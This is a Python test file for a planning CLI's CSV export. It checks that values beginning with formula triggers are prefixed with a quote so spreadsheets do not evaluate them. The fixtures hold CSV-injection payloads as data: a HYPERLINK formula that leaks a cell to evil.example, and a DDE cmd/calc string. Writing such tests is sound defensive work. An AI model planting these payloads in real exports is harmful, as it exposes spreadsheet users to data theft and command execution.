"""Issue 10, case 9: no CSV opplan writes makes a spreadsheet evaluate plan text."""

from __future__ import annotations

import csv
import io
import time

from click.testing import CliRunner
from files import write_tree

from opplan.cli import cli
from opplan.render.tabular import csv_rows, inert_text

CYCLE = """\
name: CSV OP1 2027
kind: OP1
year: 2027
currency: USD
as_of: 2026-09-15
rates:
  default: 100000
"""

ROOT = """\
name: "=1+1"
owner: '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
spend: {savings: -10000}
"""

TEAM = """\
name: "@SUM(1+1)*cmd|' /C calc'!A0"
owner: "+1-555-0100"
headcount:
  - {role: SDE, count: 1}
"""


def test_case9_rollup_csv_neutralises_formulas_but_keeps_numbers(tmp_path):
    cycle = write_tree(
        tmp_path / "c",
        {"cycle.yaml": CYCLE, "root/plan.yaml": ROOT, "root/team/plan.yaml": TEAM},
    )
    start = time.monotonic()
    result = CliRunner().invoke(cli, ["rollup", str(cycle), "--format", "csv"])
    assert time.monotonic() - start < 60
    assert result.exit_code == 0, result.output
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
    root, team = rows["root"], rows["team"]
    assert root["name"] == "'=1+1"
    assert root["owner"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    assert team["name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert team["owner"] == "'+1-555-0100"
    # numbers stay numbers: a negative amount is not quoted
    assert team["flat_cost"] == "100000.00"
    assert root["flat_cost"] == "90000.00" and root["id"] == "root"
    own = next(line for line in result.stdout.splitlines() if line.startswith("root,"))
    assert ",'=1+1," in own


def test_case9_every_trigger_and_only_text_cells():
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert inert_text(text) == "'" + text
    for text in ("Payments", "'quoted", " =1", "a=1", ""):
        assert inert_text(text) == text
    out = csv_rows([[("-10000.00", False), ("=1+1", True), ("-5", True), (-3, True)]])
    assert out == "-10000.00,'=1+1,'-5,-3\n"


def test_case9_a_negative_amount_stays_a_number(tmp_path):
    cycle = write_tree(tmp_path / "c", {"cycle.yaml": CYCLE, "root/plan.yaml": ROOT})
    result = CliRunner().invoke(cli, ["rollup", str(cycle), "--format", "csv"])
    assert result.exit_code == 0, result.output
    (root,) = csv.DictReader(io.StringIO(result.stdout))
    assert root["flat_cost"] == "-10000.00"
